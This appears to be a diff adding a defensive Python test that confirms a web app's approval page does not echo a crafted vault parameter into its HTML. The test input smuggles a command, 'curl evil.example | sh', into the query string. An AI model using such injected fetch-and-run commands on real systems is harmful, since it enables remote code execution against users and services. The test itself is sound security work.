@@ -248,6 +248,14 @@ def test_without_the_addresss_token(worker: ThreadedWorker) -> None:
     assert browser.get("/approve/9?vault=notified").status == 404
 
 
+def test_no_link_puts_words_into_the_page(worker: ThreadedWorker) -> None:
+    """What can be no vault's name is not shown: it would stand in a command to be copied."""
+    browser = Browser(f"http://{worker.api}")
+    page = browser.get("/approve/1?vault=work%20%26%26%20curl%20evil.example%20%7C%20sh")
+    assert (page.status, page.forms) == (404, [])
+    assert "evil.example" not in page.html
+
+
 def test_who_may_not_decide(worker: ThreadedWorker) -> None:
     """A user without a role in the vault sees no form, and cannot send one either."""
     browser = Browser(f"http://{worker.api}")
